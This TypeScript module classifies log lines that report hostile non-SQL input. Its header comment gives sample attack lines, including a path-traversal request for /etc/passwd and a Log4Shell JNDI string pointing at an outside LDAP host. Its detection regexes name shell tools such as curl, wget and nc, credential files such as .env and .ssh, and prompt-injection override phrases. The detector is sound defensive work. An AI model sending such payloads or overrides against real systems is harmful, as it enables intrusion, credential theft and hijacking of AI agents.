/**
 * Input of attackers that is no SQL, and lines in which a guard names what it stopped.
 *
 *   blocked GET /menu?lang=../../etc/passwd                       a path out of the folder
 *   User-Agent: ${jndi:ldap://192.0.2.66/a}                       Log4Shell
 *   rule 942100 (SQL injection) 203.0.113.5 GET /games?id=…       OWASP's Core Rule Set
 *
 * Scanners ask every host for such files, and a 404 is no news. It counts where the service took it for an attack.
 */

const HOSTILE_INPUTS = [
  'path traversal',
  'Log4Shell',
  'template',
  'shell command',
  'script',
  'hidden files',
  'prompt injection',
  'firewall rule',
] as const;

export type HostileInput = (typeof HOSTILE_INPUTS)[number];

const KINDS: ReadonlySet<string> = new Set(HOSTILE_INPUTS);

/** Whether a kind of attack is one of these, and none of SQL. */
export function isHostile(kind: string): kind is HostileInput {
  return KINDS.has(kind);
}

type Form = Readonly<{ kind: HostileInput; form: RegExp }>;

/** Nobody sends these by mistake. */
const ANYWHERE: readonly Form[] = [{ kind: 'Log4Shell', form: /\$\{(?:jndi|\w{1,8}:[^}\s]{0,40}j\}?ndi):?/i }];

const NOTICED: readonly Form[] = [
  {
    kind: 'path traversal',
    form: /(?:\.\.[/\\]){2,}|\.\.[/\\][\w.-]{1,40}|\/etc\/(?:passwd|shadow)\b|\/proc\/self\/|\bboot\.ini\b|\bfile:\/\/\/|\bweb\.config\b/i,
  },
  {
    kind: 'template',
    form: /\{\{\s{0,8}\d{1,6}\s{0,8}\*\s{0,8}\d{1,6}\s{0,8}\}\}|\$\{\d{1,6}\*\d{1,6}\}|\{\{.{0,60}__class__/i,
  },
  {
    kind: 'shell command',
    form: /[;|&`]\s{0,8}(?:cat|wget|curl|nc|bash|sh|id|whoami|uname|ping|powershell|cmd(?:\.exe)?)\b|\$\((?:cat|wget|curl|id|whoami)\b/i,
  },
  { kind: 'script', form: /<script\b|\bjavascript:|\bon(?:error|load|mouseover)\s{0,8}=|<svg\b|<img\b[^>]{0,80}\bon/i },
  {
    kind: 'hidden files',
    form: /\/(?:\.env|\.git\/|\.aws\/|\.ssh\/|\.svn\/|\.DS_Store|wp-(?:login|admin|config)|phpmyadmin|cgi-bin\/|actuator\/(?:env|heapdump)|server-status)/i,
  },
  {
    kind: 'prompt injection',
    form: /\bprompt[- ]injection\b|\bjailbreak\w{0,3}\b|\b(?:ignore|disregard|forget) (?:all |the |your |any )?(?:rules?|instructions?|prompts?|policy|guidelines)\b|\b(?:ignore|disregard|forget) (?:all |the |your |any )?(?:previous|prior|above|earlier|other)\b|\blooks like an instruction\b/i,
  },
];

/** What a firewall, a filter or a service writes when it takes input for an attack. */
const STOPPED =
  /\b(?:block(?:ed|s|ing)?|bann(?:ed|ing)|refus(?:ed|es|ing)|reject(?:ed|s|ing)?|denied|deny|forbidden|drop(?:ped|s)?|stripped|saniti[sz]ed|escaped|quarantined|malicious|suspicious|attacks?|attackers?|hostile|intrusion|exploit\w{0,5}|probing|scann(?:er|ing)|waf|mod_?security|coraza|naxsi|fail2ban|crowdsec|guard(?:rails?)?|tries|hits|rule (?:id )?9\d{5}|not (?:a |an |allowed|permitted|accepted))\b/i;

/**
 * Classes of attacks, as firewalls name them. The numbers are OWASP's Core Rule Set: protocol, scanners, files, code, scripts,
 * fixation, Java. https://coreruleset.org/docs/2-how-crs-works/
 */
const BY_RULE =
  /\b(?:rule|id|sid)s?["']?[ :=#]{1,3}["']?9[1-4]\d{4}\b|\b(?:OS file access|(?:local|remote) file inclusion|[lr]fi|rce|remote code execution|command injection|code injection|path traversal|directory traversal|xss|cross[- ]site scripting|xxe|ssrf|sqli|sql injection|nosql injection|ldap injection|template injection|prompt injection|log4(?:shell|j)|deseriali[sz]ation attack)\b/i;

const LONGEST_READ = 4_000;
const WORTH_READING =
  /\.\.|\/etc|jndi|\{\{|\$\{|\$\(|<|javascript|\/\.|wp-|php|cgi|actuator|ignore|disregard|forget|instruction|prompt|jailbreak|rule|waf|9[1-4]\d{4}|inclusion|\b[lr]fi\b|rce|xss|xxe|ssrf|sqli|injection|traversal|log4|[;|&`]\s?(?:cat|wget|curl|nc|bash|sh|id|whoami|uname|ping|powershell|cmd)\b/i;

/** The kind of hostile input that a line tells of, decoded; undefined where it tells of none. */
export function hostileInput(decoded: string): HostileInput | undefined {
  const text = decoded.slice(0, LONGEST_READ);
  if (!WORTH_READING.test(text)) return undefined;
  for (const { kind, form } of ANYWHERE) if (form.test(text)) return kind;
  if (!isStopped(text)) return undefined;
  for (const { kind, form } of NOTICED) if (form.test(text)) return kind;
  return BY_RULE.test(text) ? 'firewall rule' : undefined;
}

/** The service, or a guard before it, says that it took input for an attack. */
export function isStopped(text: string): boolean {
  return STOPPED.test(text);
}
